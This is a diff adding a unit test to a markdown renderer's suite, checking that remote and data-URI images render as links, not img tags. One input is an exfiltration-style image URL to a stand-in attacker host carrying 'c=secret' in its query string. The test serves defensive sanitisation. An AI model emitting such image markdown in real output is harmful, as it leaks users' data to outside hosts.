@@ -60,3 +60,13 @@ def test_relative_and_mailto_links_lose_their_target() -> None:
     html = render_markdown("[a](/admin/) [b](mailto:x@example.org)")
     assert "href" not in html
     assert ">a</a>" in html
+
+
+def test_remote_markdown_image_becomes_a_link_never_an_img() -> None:
+    html = render_markdown(
+        "![chart](https://evil.example/leak.png?c=secret) "
+        "![svg](data:image/svg+xml;base64,PHN2Zz4=)"
+    )
+    assert "<img" not in html
+    assert '<a href="https://evil.example/leak.png?c=secret" target="_blank"' in html
+    assert ">chart</a>" in html
